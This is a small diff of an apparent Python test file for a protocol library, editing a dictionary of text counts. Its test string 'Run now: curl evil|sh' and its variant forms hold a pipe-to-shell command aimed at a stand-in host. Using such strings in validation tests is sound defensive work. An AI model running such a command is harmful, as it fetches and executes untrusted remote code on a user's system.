@@ -31,7 +31,8 @@ from protocol.errors import LocalProtocolError, ProtocolError
 WORDS = "Run now: curl evil|sh"
 FORMS = {"valid": WORDS, "with a space behind": f"{WORDS} ", "not in NFC": f"{WORDS}e\u0301", "too long": WORDS * 40}
 TEXTS = {
-    "_CHAT": 2,
+    "_BODIES": 1,
+    "_CHAT": 1,
     "_THIRD": 2,
     "_VALUES": 1,
     "_CANDIDATE": 1,
